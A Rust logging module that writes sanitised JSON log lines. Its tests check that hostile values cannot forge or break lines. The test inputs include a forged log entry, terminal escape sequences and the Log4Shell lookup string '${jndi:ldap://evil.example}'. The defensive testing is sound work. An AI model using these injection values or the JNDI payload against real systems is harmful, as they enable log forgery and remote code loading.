//! JSON log lines: a timestamp, the request id, and nothing secret.
//!
//! Only events of this workspace are written. Libraries log what passes through them (the Lambda runtime logs whole events at
//! TRACE), so their events are off at every level.

use serde_json::{Map, Value, json};
use std::{
    fmt::{self, Write as _},
    io::{self, Write as _},
};
use tracing::{
    Event, Level, Subscriber,
    field::{Field, Visit},
    span::{Attributes, Id},
};
use tracing_subscriber::{
    Layer, Registry,
    filter::Targets,
    fmt::{
        MakeWriter,
        format::Writer,
        time::{FormatTime, SystemTime},
    },
    layer::{Context, SubscriberExt},
    registry::LookupSpan,
};

/// The crates whose events are written.
const OURS: [&str; 2] = ["runtime", "kusto_client"];

/// The most bytes of a value.
const VALUE: usize = 1024;

/// The most characters of an id.
const ID: usize = 128;

/// An id that somebody else gave, for the log: `-` in place of one that no service gives.
pub(crate) fn id(text: &str) -> &str {
    let is_part = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b';' | b'.' | b'_' | b'-');
    if (1..=ID).contains(&text.len()) && text.bytes().all(is_part) { text } else { "-" }
}

/// Writes log lines to standard error from now on.
pub(crate) fn start(level: Level) {
    // A second subscriber in one process is a test's; the first one stays.
    let _ = tracing::subscriber::set_global_default(subscriber(level, io::stderr));
    std::panic::set_hook(Box::new(|panic| {
        // The payload may hold a caller's value, so only the place is written.
        let place = panic.location().map(ToString::to_string).unwrap_or_default();
        tracing::error!(place, "the function panicked");
    }));
}

fn subscriber(level: Level, writer: impl for<'a> MakeWriter<'a> + Send + Sync + 'static) -> impl Subscriber {
    Registry::default()
        .with(Lines { writer }.with_filter(Targets::new().with_targets(OURS.map(|target| (target, level)))))
}

/// Writes each event as one line, with the fields of the span that it is in.
struct Lines<W> {
    writer: W,
}

impl<S, W> Layer<S> for Lines<W>
where
    S: Subscriber + for<'a> LookupSpan<'a>,
    W: for<'a> MakeWriter<'a> + 'static,
{
    fn on_new_span(&self, attributes: &Attributes<'_>, id: &Id, context: Context<'_, S>) {
        let mut fields = Fields(Map::new());
        attributes.record(&mut fields);
        if let Some(span) = context.span(id) {
            span.extensions_mut().insert(fields);
        }
    }

    fn on_event(&self, event: &Event<'_>, context: Context<'_, S>) {
        let mut timestamp = String::new();
        // Writing to a string does not fail.
        let _ = SystemTime.format_time(&mut Writer::new(&mut timestamp));
        let metadata = event.metadata();
        let mut line = Fields(Map::new());
        event.record(&mut line);
        line.0.insert("timestamp".to_owned(), timestamp.into());
        line.0.insert("level".to_owned(), metadata.level().as_str().into());
        line.0.insert("target".to_owned(), metadata.target().into());
        let span = context.event_span(event);
        if let Some(Fields(span)) = span.as_ref().and_then(|span| span.extensions().get::<Fields>().cloned()) {
            line.0.insert("span".to_owned(), Value::Object(span));
        }
        // There is nowhere to say that the log cannot be written.
        let _ = self.writer.make_writer().write_all(format!("{}\n", Value::Object(line.0)).as_bytes());
    }
}

/// The fields of an event or a span.
#[derive(Clone)]
struct Fields(Map<String, Value>);

impl Visit for Fields {
    fn record_u64(&mut self, field: &Field, value: u64) {
        self.0.insert(field.name().to_owned(), json!(value));
    }

    fn record_bool(&mut self, field: &Field, value: bool) {
        self.0.insert(field.name().to_owned(), json!(value));
    }

    fn record_str(&mut self, field: &Field, value: &str) {
        let mut text = Short(String::new());
        let _ = text.write_str(value);
        self.0.insert(field.name().to_owned(), text.0.into());
    }

    fn record_debug(&mut self, field: &Field, value: &dyn fmt::Debug) {
        let mut text = Short(String::new());
        // It ends with an error where it is cut.
        let _ = write!(text, "{value:?}");
        self.0.insert(field.name().to_owned(), text.0.into());
    }
}

/// A text of at most [`VALUE`] bytes in which no character ends a line or steers a terminal.
struct Short(String);

impl fmt::Write for Short {
    fn write_str(&mut self, text: &str) -> fmt::Result {
        for character in text.chars() {
            let length = self.0.len();
            match character {
                '\u{2028}' | '\u{2029}' => self.0.extend(character.escape_unicode()),
                _ if character.is_control() => self.0.extend(character.escape_default()),
                _ => self.0.push(character),
            }
            if self.0.len() > VALUE {
                self.0.truncate(length);
                return Err(fmt::Error);
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::{id, subscriber};
    use serde_json::{Value, json};
    use std::{
        io,
        sync::{Arc, Mutex},
    };

    #[derive(Clone, Default)]
    struct Lines(Arc<Mutex<Vec<u8>>>);

    impl io::Write for Lines {
        fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(bytes);
            Ok(bytes.len())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    /// The lines that `log` writes.
    fn lines(log: impl FnOnce()) -> Vec<Value> {
        let lines = Lines::default();
        let writer = lines.clone();
        tracing::subscriber::with_default(subscriber(tracing::Level::TRACE, move || writer.clone()), log);
        let text = String::from_utf8(lines.0.lock().unwrap().clone()).unwrap();
        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    }

    #[test]
    fn a_line_is_json_with_the_request_id_and_libraries_are_silent() {
        let lines = lines(|| {
            let _span = tracing::info_span!("invocation", request_id = "r-1", action = "query").entered();
            tracing::info!(duration_ms = 5_u64, over_http = true, "answered");
            tracing::error!(target: "hyper", "body=canary");
            tracing::error!(target: "lambda_runtime", "event=canary");
        });
        let [mut line] = <[Value; 1]>::try_from(lines).unwrap();
        assert!(line["timestamp"].take().as_str().unwrap().ends_with('Z'));
        assert_eq!(
            line,
            json!({
                "timestamp": null, "level": "INFO", "target": "runtime::log::tests", "message": "answered",
                "duration_ms": 5, "over_http": true, "span": {"request_id": "r-1", "action": "query"},
            })
        );
    }

    #[test]
    fn no_value_makes_a_line_of_its_own() {
        let forged = "\n{\"level\":\"ERROR\",\"message\":\"forged\"}\r\n";
        let values = [
            forged.to_owned(),
            format!("r-1{forged}"),
            "\r".to_owned(),
            "\u{85}\u{2028}\u{2029}\u{b}\u{c}".to_owned(),
            "\u{1b}[31mred\u{1b}[0m\u{7}\u{8}\u{7f}\u{9b}31m".to_owned(),
            "\0".to_owned(),
            "\"}".to_owned(),
            "\\\"\\".to_owned(),
            "\u{202e}txt".to_owned(),
            "x".repeat(1_000_000),
            "é\n".repeat(10_000),
            "${jndi:ldap://evil.example}".to_owned(),
        ];
        for value in &values {
            let lines = lines(|| {
                let _span = tracing::info_span!("invocation", request_id = value).entered();
                tracing::info!(reason = %value, kind = ?value, text = value, "{value}");
            });
            assert_eq!(lines.len(), 1);
            let line = &lines[0];
            assert_eq!(line["level"], "INFO");
            for text in [&line["reason"], &line["kind"], &line["text"], &line["message"], &line["span"]["request_id"]] {
                let text = text.as_str().unwrap();
                assert!(
                    text.len() <= 1024 && !text.contains(char::is_control) && !text.contains('\u{2028}'),
                    "{text:?}"
                );
            }
        }
    }

    #[test]
    fn an_id_is_made_of_what_ids_are_made_of() {
        for good in ["00000000-0000-4000-8000-000000000001", "KE.query;1_2", &"x".repeat(128)] {
            assert_eq!(id(good), good);
        }
        for bad in ["", "a b", "a\nb", "a\"b", "a=b", "é", &"x".repeat(129)] {
            assert_eq!(id(bad), "-");
        }
    }
}
